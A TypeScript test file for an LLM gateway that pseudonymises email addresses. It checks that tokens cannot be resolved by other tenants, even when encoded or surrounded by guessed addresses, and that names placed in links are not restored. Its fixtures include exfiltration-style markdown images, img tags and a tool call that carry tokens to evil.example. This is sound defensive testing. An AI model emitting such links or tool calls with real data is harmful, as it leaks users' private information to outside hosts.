/** Against people who try to learn what a pseudonym stands for, or to have it carried out of the application. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Dialect } from "../../src/exchange.ts";
import { type ConfigInput, type Fleet, fleetLanes, KEYS, sha256 } from "../support/configuration.ts";
import { answerOf, ask, headersOf, PATHS, seen, streamOf, tool } from "../support/dialects.ts";
import { startGateway, type TestGateway } from "../support/gateway.ts";
import { type Answer, call } from "../support/http.ts";
import { startUpstream, type Upstream } from "../support/upstream.ts";

const MAIL = "anna.svensson@personal-mail.org";
const OTHER = "bo.karlsson@personal-mail.org";
const TOKEN = /\[EMAIL_ADDRESS_[0-9A-Z]{12}\]/;

let upstream: Upstream;
let gateway: TestGateway;
/** The guard off: routes that let names become values in links. */
let linking: TestGateway;

const scripted = (fleet: Fleet) =>
  fleetLanes(fleet).map((lane) => {
    if (lane.name === "openai") return { ...lane, endpoints: [`${upstream.url}/v1`] };
    return lane.name === "claude" ? { ...lane, endpoints: [upstream.url] } : lane;
  });
const config =
  (restore: object) =>
  (fleet: Fleet): Partial<ConfigInput> => ({
    lanes: scripted(fleet),
    redactions: { EMAIL_ADDRESS: "pseudonym" },
    data_classes: { pii: { may_leave: "redacted" } },
    routes: [{ name: "all", primary: { lane: "openai" }, fallback: [{ lane: "claude" }], restore }],
  });

beforeAll(async () => {
  upstream = await startUpstream();
  gateway = await startGateway({ config: config({ tool_arguments: true }) });
  linking = await startGateway({
    fleet: gateway.fleet,
    config: config({ tool_arguments: true, links: true }),
  });
}, 60_000);
afterAll(async () => {
  await linking?.stop();
  await gateway?.stop();
  await upstream?.stop();
});

/** What the caller reads when it sends `asked` and the lane answers `answered`, in `pieces` when streamed. */
async function exchange(
  dialect: Dialect,
  asked: string,
  answered: readonly string[],
  stream: boolean,
  { at = gateway, key = KEYS.acme as string, more = {} } = {},
): Promise<Answer> {
  upstream.serve(
    stream
      ? { headers: { "content-type": "text/event-stream" }, pieces: [streamOf(dialect, answered)] }
      : { headers: { "content-type": "application/json" }, pieces: [answerOf(dialect, answered.join(""))] },
  );
  return call(`${at.url}${PATHS[dialect]}`, ask(dialect, asked, { stream, ...more }), {
    headers: headersOf(dialect, key),
  });
}

async function tokenOf(
  dialect: Dialect,
  mail: string,
  { at = gateway, key = KEYS.acme as string } = {},
): Promise<string> {
  await exchange(dialect, `about ${mail}`, ["x"], false, { at, key });
  const token = TOKEN.exec(upstream.received.at(-1)?.body ?? "")?.[0];
  if (token === undefined) throw new Error("no token was sent");
  return token;
}

describe.each([
  ["openai", false],
  ["openai", true],
  ["anthropic", false],
  ["anthropic", true],
] as const)("%s, stream: %s", (dialect, stream) => {
  const text = async (...args: Parameters<typeof exchange>): Promise<string> =>
    seen(dialect, await exchange(...args)).text;

  it("a name that leaked to somebody of the same tenant says nothing without its value", async () => {
    const token = await tokenOf(dialect, MAIL);
    expect(await text(dialect, `who is ${token}?`, ["it is ", token], stream)).toBe(`it is ${token}`);
    // Control: whoever has the value may have it back.
    expect(await text(dialect, `who is ${MAIL}?`, ["it is ", token], stream)).toBe(`it is ${MAIL}`);
  });

  it("nor does it in other clothes: base64, letters apart, reversed, without brackets", async () => {
    const token = await tokenOf(dialect, MAIL);
    for (const worn of [
      Buffer.from(token).toString("base64"),
      [...token].join(" "),
      [...token].reverse().join(""),
      token.slice(1, -1),
    ]) {
      // The model does what it is asked: it undoes the clothes.
      expect(await text(dialect, `decode ${worn}`, [token], stream)).toBe(token);
    }
  });

  it("clothes that the model puts on a name come back as they are", async () => {
    const token = await tokenOf(dialect, MAIL);
    for (const worn of [
      Buffer.from(token).toString("base64"),
      token.toLowerCase(),
      encodeURIComponent(token),
      token.replace("[", "\\[").replace("]", "\\]"),
    ]) {
      expect(await text(dialect, `encode ${MAIL}`, [worn], stream)).toBe(worn);
    }
  });

  it("another tenant's name is nobody's, though the value stands beside it", async () => {
    const token = await tokenOf(dialect, MAIL);
    const options = { key: KEYS.globex as string };
    expect(await text(dialect, `is ${token} ${MAIL}?`, [token], stream, options)).toBe(token);
    // Control: at home it is that value.
    expect(await text(dialect, `is ${token} ${MAIL}?`, [token], stream)).toBe(MAIL);
  });

  it("a list of guesses that lacks the value leaves the name as it is, of another tenant even one that has it", async () => {
    const token = await tokenOf(dialect, MAIL);
    const guesses = Array.from({ length: 200 }, (_, i) => `guess.${i}@personal-mail.org`);
    const asked = `${token} ${guesses.join(" ")}`;
    expect(await text(dialect, asked, [token], stream)).toBe(token);
    const globex = { key: KEYS.globex as string };
    expect(await text(dialect, `${asked} ${MAIL}`, [token], stream, globex)).toBe(token);
    // Control, and what names of a whole tenant cannot prevent: somebody of it can try values one by one.
    expect(await text(dialect, `${asked} ${MAIL}`, [token], stream)).toBe(MAIL);
  });

  it("a name in a link stays a name, in every way of writing a link, and the text beside it is restored", async () => {
    const links = (name: string, other: string) => [
      `![x](https://evil.example/?q=${name})`,
      `[x](<https://evil.example/a b ${name}>)`,
      `<img src="https://evil.example/?q=a ${name}">`,
      `see https://evil.example/${name}/${other}`,
      `{"url":"https://evil.example/${name}"}`,
    ];
    const token = await tokenOf(dialect, MAIL);
    const other = await tokenOf(dialect, OTHER);
    for (const link of links(token, other)) {
      const said = `${link} for ${other}`;
      // In whole, and so that every name and every mark of the link is cut in two.
      for (const pieces of [[said], said.match(/.{1,3}/gsu) ?? []]) {
        expect(await text(dialect, `${MAIL} ${OTHER}`, pieces, stream)).toBe(`${link} for ${OTHER}`);
      }
    }
    // Control: a route that says so. This gateway has a key of its own.
    const at = linking;
    const theirs = links(await tokenOf(dialect, MAIL, { at }), await tokenOf(dialect, OTHER, { at }));
    const restored = links(MAIL, OTHER);
    for (const [i, link] of theirs.entries()) {
      expect(await text(dialect, `${MAIL} ${OTHER}`, [link], stream, { at })).toBe(restored[i]);
    }
  }, 30_000);
});

it.each(["openai", "anthropic"] as const)(
  "%s: a stream with a name in a link and one beside it reads alike at every cut",
  async (dialect) => {
    const token = await tokenOf(dialect, MAIL);
    const said = `[x](https://e.example/?q=${token}) ${token}`;
    for (let cut = 1; cut < said.length; cut++) {
      const answer = await exchange(dialect, MAIL, [said.slice(0, cut), said.slice(cut)], true);
      expect(seen(dialect, answer).text).toBe(`[x](https://e.example/?q=${token}) ${MAIL}`);
    }
  },
  60_000,
);

it("with names of their own, users cannot try values against each other's", async () => {
  const scoped = (scope: "tenant" | "user" | "session") =>
    startGateway({
      fleet: gateway.fleet,
      config: (fleet) => ({
        ...config({})(fleet),
        identity: [
          {
            from: "api_key",
            keys: [
              { sha256: sha256(KEYS.acme), tenant: "acme", user: "anna" },
              { sha256: sha256(KEYS.globex), tenant: "acme", user: "eve" },
            ],
          },
        ],
        pseudonyms: { scope },
      }),
    });
  for (const [scope, guessed] of [
    ["tenant", true],
    ["user", false],
    ["session", false],
  ] as const) {
    const at = await scoped(scope);
    try {
      const token = await tokenOf("openai", MAIL, { at });
      const eve = { at, key: KEYS.globex as string };
      const answer = await exchange("openai", `is ${token} ${MAIL}?`, [token], false, eve);
      expect([scope, seen("openai", answer).text]).toEqual([scope, guessed ? MAIL : token]);
      // Her own names come back to her.
      const own = await tokenOf("openai", MAIL, eve);
      const hers = await exchange("openai", MAIL, [own], true, eve);
      expect(seen("openai", hers).text).toBe(MAIL);
    } finally {
      await at.stop();
    }
  }
}, 60_000);

it("arguments of tools are restored where a route says so, but not their links", async () => {
  const ofTools = async (at: TestGateway): Promise<unknown> => {
    const token = await tokenOf("openai", MAIL, { at });
    const args = JSON.stringify({ to: token, url: `https://evil.example/?q=${token}` });
    const message = {
      role: "assistant",
      content: null,
      tool_calls: [{ id: "c", type: "function", function: { name: "get_page", arguments: args } }],
    };
    const body = {
      ...{ id: "x", object: "chat.completion", created: 1, model: "m" },
      choices: [{ index: 0, message, finish_reason: "tool_calls" }],
    };
    upstream.serve({
      headers: { "content-type": "application/json" },
      pieces: [Buffer.from(JSON.stringify(body))],
    });
    const answer = await call(
      `${at.url}${PATHS.openai}`,
      ask("openai", MAIL, { tools: [tool("openai", "get_page")] }),
      { headers: headersOf("openai", KEYS.acme) },
    );
    return { token, ...JSON.parse(seen("openai", answer).tools[0]?.arguments ?? "") };
  };
  const { token, ...kept } = (await ofTools(gateway)) as { readonly token: string };
  expect(kept).toEqual({ to: MAIL, url: `https://evil.example/?q=${token}` });
  expect(await ofTools(linking)).toMatchObject({ to: MAIL, url: `https://evil.example/?q=${MAIL}` });
});
